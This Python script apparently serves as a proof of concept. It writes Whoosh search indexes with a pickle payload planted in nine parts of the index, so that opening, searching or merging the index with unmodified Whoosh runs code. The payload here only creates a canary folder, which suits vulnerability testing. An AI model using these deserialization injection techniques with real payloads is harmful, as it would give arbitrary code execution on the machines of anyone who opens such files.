"""Writes indexes that run code when Whoosh reads them: a program, because it changes Whoosh to do so.

python hostile_index.py PLACE FOLDER CANARY          write one; reading it makes the folder CANARY
python hostile_index.py read FOLDER                  open, search and merge it with plain Whoosh
"""

import os
import pickle
import sys
from pathlib import Path

from whoosh import columns, fields, index, query
from whoosh.codec import whoosh3 as codec
from whoosh.codec.base import Segment
from whoosh.filedb.filestore import FileStorage
from whoosh.filedb.filetables import HashWriter

WORD = "crash"
SCHEMA = fields.Schema(title=fields.TEXT(stored=True))
PLACES = (
    "schema",
    "segments",
    "legacy schema",
    "directory",
    "term extras",
    "block header",
    "block data",
    "inlined postings",
    "stored fields",
)


class Poison:
    """Makes a folder when it is unpickled."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.canary,)


def write(place: str, folder: Path, poison: Poison) -> None:
    Segment._random_id = classmethod(lambda cls, size=16: "0123456789abcdef")
    poison_parts(place, poison)
    writer = index.create_in(str(folder), SCHEMA).writer(
        codec=codec.W3Codec(inlinelimit=9 if "inlined" in place else 1)
    )
    for number in range(3):
        writer.add_document(title=f"{WORD} {number}")
    writer.commit()
    if place == "directory":
        [segment] = folder.glob("*.seg")
        data = pickle.dumps(poison)
        segment.write_bytes((12).to_bytes(8, "big") + len(data).to_bytes(4, "big") + data)
    if place in ("schema", "segments", "legacy schema"):
        poison_toc(place, folder, poison)


def poison_parts(place: str, poison: Poison) -> None:
    def dumps(value: object, protocol: int) -> bytes:
        is_wanted = isinstance(value, tuple) and len(value) == (6 if place == "block header" else 3)
        return pickle.dumps(poison if is_wanted else value, protocol)

    if place in ("block header", "block data", "inlined postings"):
        codec.dumps = dumps
        codec.W3TermInfo.set_inline = codec.W3TermInfo.set_inlined
    if place == "stored fields":
        columns.dumps = lambda value, protocol: pickle.dumps(poison, protocol)
    if place == "term extras":
        write_extras = HashWriter._write_extras

        def write_poison(self: HashWriter) -> None:
            self.extras["poison"] = poison
            write_extras(self)

        HashWriter._write_extras = write_poison


def poison_toc(place: str, folder: Path, poison: Poison) -> None:
    [toc] = folder.glob("*.toc")
    segments = index.TOC.read(FileStorage(str(folder)), "MAIN").segments
    toc.unlink()
    file = FileStorage(str(folder)).create_file(toc.name)
    for size in (4, 8, 4):
        file.write_varint(size)
    file.write_int(-12345)
    file.write_int(-110 if place == "legacy schema" else -111)
    for number in (2, 7, 4):
        file.write_varint(number)
    file.write_string(pickle.dumps(poison if "schema" in place else SCHEMA, 2))
    file.write_int(1)
    file.write_int(0)
    file.write_pickle([poison] if place == "segments" else segments)
    file.close()


def read(folder: Path) -> None:
    opened = index.open_dir(str(folder))
    with opened.searcher() as searcher:
        print([dict(hit) for hit in searcher.search(query.Term("title", WORD))])
    opened.optimize()


if __name__ == "__main__":
    if sys.argv[1] == "read":
        read(Path(sys.argv[2]))
    else:
        write(sys.argv[1], Path(sys.argv[2]), Poison(sys.argv[3]))
